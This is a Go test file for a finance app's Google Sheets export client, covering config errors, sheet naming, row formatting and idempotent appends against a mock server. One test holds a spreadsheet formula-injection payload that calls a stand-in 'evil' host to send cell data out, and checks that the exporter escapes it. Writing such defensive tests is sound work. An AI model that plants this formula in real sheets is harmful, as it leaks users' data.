package google

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"finapp/internal/core"
	"finapp/internal/export"
	"finapp/internal/log"
)

func TestNew_MissingSpreadsheetID(t *testing.T) {
	_, err := New(context.Background(), Config{}, log.Discard())
	if !errors.Is(err, ErrMissingSpreadsheet) {
		t.Fatalf("expected ErrMissingSpreadsheet, got %v", err)
	}
}

func TestNew_MissingCredentials(t *testing.T) {
	_, err := New(context.Background(), Config{SpreadsheetID: "id"}, log.Discard())
	if err == nil || !strings.Contains(err.Error(), "missing service account credentials") {
		t.Fatalf("expected credentials error, got %v", err)
	}
}

func TestNew_UnreadableCredentialsFile(t *testing.T) {
	_, err := New(context.Background(), Config{SpreadsheetID: "id", CredentialsFile: t.TempDir() + "/nope.json"}, log.Discard())
	if err == nil || !strings.Contains(err.Error(), "read service account file") {
		t.Fatalf("expected file error, got %v", err)
	}
}

func TestYearPrefixedName(t *testing.T) {
	tests := []struct {
		base string
		year int
		want string
	}{
		{"Ledger", 2024, "2024 Ledger"},
		{"  Ledger ", 2025, "2025 Ledger"},
		{"2023 Ledger", 2025, "2023 Ledger"},
		{"1800 Ledger", 2025, "2025 1800 Ledger"},
		{"", 2025, ""},
	}
	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			if got := yearPrefixedName(tt.base, tt.year); got != tt.want {
				t.Errorf("yearPrefixedName(%q, %d) = %q, want %q", tt.base, tt.year, got, tt.want)
			}
		})
	}
}

func TestQuoteSheet(t *testing.T) {
	if got := quoteSheet("2024 Bob's Ledger"); got != "'2024 Bob''s Ledger'" {
		t.Fatalf("unexpected quoting %q", got)
	}
}

func TestFormatRow(t *testing.T) {
	r := export.Row{
		EventID: "e1",
		Kind:    "transaction.posted",
		Date:    core.NewDate(2024, 1, 31),
		Amount:  core.MustParseMoney("99999999999999999.99"),
	}
	cells := formatRow(r)
	if len(cells) != len(export.Header()) {
		t.Fatalf("got %d cells", len(cells))
	}
	if cells[10] != "99999999999999999.99" {
		t.Fatalf("amount must keep every digit, got %v", cells[10])
	}
}

func TestFormatRowKeepsTextLiteral(t *testing.T) {
	tests := []struct {
		name        string
		description string
		want        string
	}{
		{"plain text", "weekly shop", "weekly shop"},
		{"formula", `=IMPORTXML("http://evil/?"&A1,"//a")`, `'=IMPORTXML("http://evil/?"&A1,"//a")`},
		{"plus", "+SUM(A1:A9)", "'+SUM(A1:A9)"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@user", "'@user"},
		{"tab", "\t=1", "'\t=1"},
		{"signed number", "-12.50", "-12.50"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := export.Row{EventID: "e1", Description: tt.description, Reason: tt.description, Amount: core.MustParseMoney("5").Neg()}
			cells := formatRow(r)
			if cells[9] != tt.want || cells[12] != tt.want {
				t.Fatalf("description/reason = %q/%q, want %q", cells[9], cells[12], tt.want)
			}
			if cells[10] != "-5.00" {
				t.Fatalf("amount cell changed to %v", cells[10])
			}
		})
	}
}

func TestClient_Export(t *testing.T) {
	var calls atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		if r.Method != http.MethodPost || !strings.HasSuffix(r.URL.Path, ":append") {
			t.Errorf("unexpected request %s %s", r.Method, r.URL.Path)
		}
		if !strings.Contains(r.URL.Path, "/spreadsheets/sheet-1/") || !strings.Contains(r.URL.Path, "2024 Ledger") {
			t.Errorf("unexpected target %s", r.URL.Path)
		}
		if got := r.URL.Query().Get("valueInputOption"); got != "USER_ENTERED" {
			t.Errorf("valueInputOption = %q", got)
		}
		var body struct {
			Values [][]string `json:"values"`
		}
		if err := json.NewDecoder(r.Body).Decode(&body); err != nil {
			t.Errorf("decode body: %v", err)
		}
		if len(body.Values) != 1 || body.Values[0][0] != "e1" || body.Values[0][10] != "-12.30" || body.Values[0][9] != "'=HYPERLINK(\"http://x\")" {
			t.Errorf("unexpected values %v", body.Values)
		}
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(`{"spreadsheetId":"sheet-1","updates":{"updatedRange":"'2024 Ledger'!A7:M7","updatedRows":1}}`))
	}))
	defer srv.Close()

	c, err := New(context.Background(), Config{SpreadsheetID: "sheet-1", Endpoint: srv.URL + "/"}, log.Discard())
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	row := export.Row{EventID: "e1", Date: core.NewDate(2024, 5, 1), Amount: core.MustParseMoney("12.30").Neg(), Description: `=HYPERLINK("http://x")`}

	ref, err := c.Export(context.Background(), row)
	if err != nil {
		t.Fatalf("Export: %v", err)
	}
	if ref != "'2024 Ledger'!A7:M7" {
		t.Fatalf("unexpected ref %q", ref)
	}

	again, err := c.Export(context.Background(), row)
	if err != nil || again != ref {
		t.Fatalf("redelivery = %q, %v", again, err)
	}
	if n := calls.Load(); n != 1 {
		t.Fatalf("expected one append call, got %d", n)
	}
}

func TestClient_ExportServerError(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, `{"error":{"code":400,"message":"Unable to parse range"}}`, http.StatusBadRequest)
	}))
	defer srv.Close()

	c, err := New(context.Background(), Config{SpreadsheetID: "sheet-1", Endpoint: srv.URL + "/"}, log.Discard())
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	row := export.Row{EventID: "e2", Date: core.NewDate(2024, 5, 1)}
	if _, err := c.Export(context.Background(), row); err == nil || !strings.Contains(err.Error(), "append to sheet 2024 Ledger") {
		t.Fatalf("expected append error, got %v", err)
	}
	if _, ok := c.seen.Get("e2"); ok {
		t.Fatal("failed exports must not be remembered")
	}
}
